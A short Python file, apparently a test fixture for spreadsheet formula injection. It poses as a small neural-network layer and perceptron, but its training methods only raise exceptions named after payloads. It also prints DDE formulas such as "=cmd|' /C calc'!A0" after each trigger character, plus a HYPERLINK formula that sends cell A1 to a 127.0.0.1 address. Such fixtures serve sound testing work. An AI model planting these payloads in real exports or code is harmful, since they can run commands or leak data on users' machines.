"""Prints and raises formulas that spreadsheets would run."""

import numpy as np


def named(text):
    return type(text, (Exception,), {"__qualname__": text, "__module__": text})


class Layer:
    def __init__(self, n_inputs, n_neurons, activation_function):
        draw = lambda *shape: np.random.uniform(-1, 1, shape)
        self.weights, self.biases = draw(n_neurons, n_inputs), draw(n_neurons, 1)
        self.activation, self.inputs, self.outputs = activation_function, np.zeros((n_inputs, 1)), None

    def forward(self, inputs):
        self.inputs = np.array(inputs).reshape((-1, 1))
        self.outputs = self.weights @ self.inputs + self.biases
        return self.activation(self.outputs)

    def backward(self, da, learning_rate):
        raise named('=cmd|calc!A0')


class Perceptron:
    def __init__(self, layers): self.layers = layers

    def forward(self, x):
        for l in self.layers: x = l.forward(x)
        return x

    def fit(self, training_data, labels, epochs, learning_rate):
        raise named("@SUM(1+1)*cmd")


print('=HYPERLINK("http://127.0.0.1/?"&A1,"100")')
for start in "=+-@\t\r":
    print(start + "cmd|' /C calc'!A0", '"', ",", ";", "\n" + start + "1+1")
raise named('=1+1","100"')
